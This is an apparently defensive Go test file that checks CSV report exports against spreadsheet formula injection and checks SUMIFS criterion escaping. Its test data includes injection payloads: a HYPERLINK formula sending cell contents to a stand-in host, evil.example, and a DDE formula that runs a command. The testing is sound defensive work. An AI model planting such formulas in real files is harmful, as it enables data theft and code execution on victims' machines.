package reports

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"

	"fundalloc/allocation"
)

// injections are texts a spreadsheet opening a CSV file would run as
// formulas if they were written as they are.
var injections = []string{
	`=1+1`, `+1+1`, `-1+1`, `@SUM(1)`,
	`=HYPERLINK("http://evil.example/?d="&A1,"Click")`, `=cmd|' /C calc'!A0`, `-2+3,"x"`,
}

// readCSV parses what a csvWriter wrote, its byte-order mark first.
func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(data, []byte("\ufeff")) {
		t.Fatal("no byte-order mark")
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return records
}

var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// checkNoFormulaFields fails on any field a spreadsheet would read as a
// formula: one that starts with =, +, - or @ and is not a plain number
// fundalloc wrote (an amount such as -20.50).
func checkNoFormulaFields(t *testing.T, name string, records [][]string) {
	t.Helper()
	for i, rec := range records {
		for j, f := range rec {
			if f != "" && strings.ContainsRune("=+-@", rune(f[0])) && !plainNumber.MatchString(f) {
				t.Errorf("%s record %d field %d = %q: a spreadsheet reads it as a formula", name, i+1, j+1, f)
			}
		}
	}
}

func TestCSVTextIsNeverAFormula(t *testing.T) {
	var b bytes.Buffer
	cw := newCSVWriter(&b)
	var fields []any
	for _, s := range injections {
		fields = append(fields, s)
	}
	fields = append(fields, "a=b", "", allocation.Fen(-2050), 7)
	cw.row(fields...)
	if err := cw.flush(); err != nil {
		t.Fatal(err)
	}
	records := readCSV(t, b.Bytes())
	want := []string{}
	for _, s := range injections {
		want = append(want, "'"+s)
	}
	want = append(want, "a=b", "", "-20.50", "7")
	if len(records) != 1 || strings.Join(records[0], "\x00") != strings.Join(want, "\x00") {
		t.Errorf("fields = %q\nwant %q", records, want)
	}
	checkNoFormulaFields(t, "row", records)
}

// TestCompanionCSVsAreNotFormulas writes the Detail and Ledger companion
// CSVs of a reconciliation whose unit names, codes, vouchers, categories,
// amounts, dates, descriptions and file names all look like formulas.
func TestCompanionCSVsAreNotFormulas(t *testing.T) {
	name := "=oct.csv"
	cats := []allocation.Category{{Code: "charity", Zh: "=慈善", En: "@charity"}}
	lg := Ledger{Files: []string{name}, Sheets: []string{""}, List: listOf([]LedgerVoucher{
		{Voucher: "=V1", Date: "2026-03-01", Unit: "+S1", Category: "=慈善", Amount: -20_50, Description: `=HYPERLINK("http://evil.example/","v")`, Row: 2, Month: 3},
		{Voucher: "@V2", Date: "=DATE(2026;1;1)", Unit: "-S2", Category: "@cat", AmountText: "+1+1", Description: "@SUM(1)", Row: 3,
			Exceptions: allocation.UnknownCategory | allocation.BadAmount | allocation.BadDate},
		{Voucher: "-V3", Date: "2026-04-01", Unit: "=X", Category: "charity", Amount: 5_00, Description: "=cmd|' /C calc'!A0", Row: 4, Month: 4,
			Exceptions: allocation.UnknownUnit},
	})}
	rc := &Reconciliation{Year: 2026, Month: "2026-10", MonthNum: 10, Language: "zh", Categories: cats, Ledger: lg,
		Units: []allocation.Unit{
			{Code: "=H", Name: "@SUM(1)", Tier: allocation.Hub},
			{Code: "+S1", Name: "=cmd|' /C calc'!A0", Tier: allocation.Station, Parent: "=H"},
			{Code: "-S2", Name: `=HYPERLINK("http://x","y")`, Tier: allocation.Station, Parent: "=H"},
		},
		Rows: []allocation.Row{
			{Unit: "+S1", Category: 0, Annual: 100_00, PlanToDate: 80_00, Actual: -20_50, Variance: -100_50},
			{Unit: "-S2", Category: 0, Annual: 0, Flags: allocation.FlagMisuse},
			{Unit: "=Z", Category: 0, Annual: 5_00},
		}}
	var detail, list bytes.Buffer
	if err := WriteReconcileDetailCSV(&detail, rc); err != nil {
		t.Fatal(err)
	}
	if err := WriteReconcileLedgerCSV(&list, rc); err != nil {
		t.Fatal(err)
	}
	d, l := readCSV(t, detail.Bytes()), readCSV(t, list.Bytes())
	checkNoFormulaFields(t, "detail", d)
	checkNoFormulaFields(t, "ledger", l)
	// The texts are all there, each behind its apostrophe.
	var all []string
	for _, rec := range append(d, l...) {
		all = append(all, rec...)
	}
	joined := "\x00" + strings.Join(all, "\x00") + "\x00"
	for _, s := range []string{"+S1", "-S2", "=Z", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x","y")`, "=慈善", "=V1", "@V2", "-V3",
		"=DATE(2026;1;1)", "@cat", "+1+1", "=X", `=HYPERLINK("http://evil.example/","v")`, "@SUM(1)", "=oct.csv"} {
		if !strings.Contains(joined, "\x00'"+s+"\x00") {
			t.Errorf("no field holds '%s", s)
		}
	}
	if !strings.Contains(joined, "\x00-20.50\x00") {
		t.Error("the refund's amount is not written as a number")
	}
}

// TestSumIfsMatchesCodesExactly: a unit code is input text, and a SUMIFS
// criterion made of it must match that code only, never act as an operator
// or a pattern.
func TestSumIfsMatchesCodesExactly(t *testing.T) {
	tb := &table{names: []string{"Lines"}, last: []int{9}}
	for code, want := range map[string]string{
		"S1":                  `"=S1"`,
		"=S1":                 `"==S1"`,
		"<>":                  `"=<>"`,
		"S*":                  `"=S~*"`,
		"S?~1":                `"=S~?~~1"`,
		`=HYPERLINK("x","y")`: `"==HYPERLINK(""x"",""y"")"`,
		"610821001":           `"=610821001"`,
		"=cmd|' /C calc'!A0":  `"==cmd|' /C calc'!A0"`,
		"@SUM(1)":             `"=@SUM(1)"`,
		"+S1":                 `"=+S1"`,
		"-S2":                 `"=-S2"`,
		"":                    `"="`,
	} {
		got := tb.sumIfs(3, 2, code)
		if w := "SUMIFS('Lines'!$C$2:$C$9,'Lines'!$B$2:$B$9," + want + ")"; got != w {
			t.Errorf("sumIfs for %q = %s, want %s", code, got, w)
		}
	}
	if got := tb.sumIfs(3, 2, criterionOp("<>")); got != `SUMIFS('Lines'!$C$2:$C$9,'Lines'!$B$2:$B$9,"<>")` {
		t.Errorf("an operator criterion = %s", got)
	}
}
